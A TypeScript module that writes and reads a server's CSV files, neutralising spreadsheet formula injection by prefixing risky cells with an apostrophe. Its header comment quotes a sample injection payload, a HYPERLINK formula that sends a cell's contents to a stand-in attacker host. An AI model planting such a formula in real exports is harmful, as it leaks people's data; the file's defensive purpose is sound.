/**
 * The one CSV writer and reader of the server: every CSV the server answers (the draw's ticket export and
 * upload result, the injury notification export, a club's members) goes through `toCsv`, and every uploaded
 * one (paper sales, members) is read by `readCsv`.
 *
 * - A BOM first, so Excel reads the fadas; records end in `\n`; csv-stringify quotes a cell with a comma,
 *   a quote or a line break and doubles its quotes.
 * - CSV injection (OWASP): a spreadsheet reads a cell that starts with `=`, `+`, `-`, `@`, a tab or a
 *   carriage return as a formula, so a buyer named `=HYPERLINK("http://evil.example/?"&A1,"Click")` became
 *   a live link in the officer's export. Such a cell gets a leading `'`, which a spreadsheet reads as
 *   "text" (and hides). Only a finite JS number stays as it is (a genuine value, even when negative);
 *   every string, whatever it holds, is checked — a phone number `+353…` is written `'+353…`.
 */
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { fromSpreadsheet, spreadsheetText } from '../../domain/lib/spreadsheet-cell.ts';

export type CsvCell = string | number | boolean | null | undefined;

/** The cell as written: a finite number as it is, anything else as text, neutralised when a formula could start. */
export function csvCell(value: CsvCell): string | number {
  if (typeof value === 'number' && Number.isFinite(value)) return value;
  return spreadsheetText(String(value ?? ''));
}

/** A CSV file (with a BOM): the header row, then one record per row, every cell through `csvCell`. */
export function toCsv(columns: readonly string[], rows: readonly (readonly CsvCell[])[]): string {
  return stringify(
    [columns, ...rows].map((row) => row.map(csvCell)),
    { bom: true },
  );
}

/**
 * An uploaded CSV: its header row and its records by header name, cells trimmed and taken back from
 * spreadsheet quoting (a cell our own export neutralised, `'=…`, reads as it was); a BOM is dropped. Null
 * when it is not CSV.
 */
export function readCsv(text: string): { columns: string[]; records: Record<string, string>[] } | null {
  let columns: string[] = [];
  try {
    const records = parse<Record<string, string>>(text.replace(/^\uFEFF/, ''), {
      columns: (header: string[]) => (columns = header.map((h) => h.trim())),
      skip_empty_lines: true,
      trim: true,
      cast: (value) => fromSpreadsheet(value),
    });
    return { columns, records };
  } catch {
    return null;
  }
}
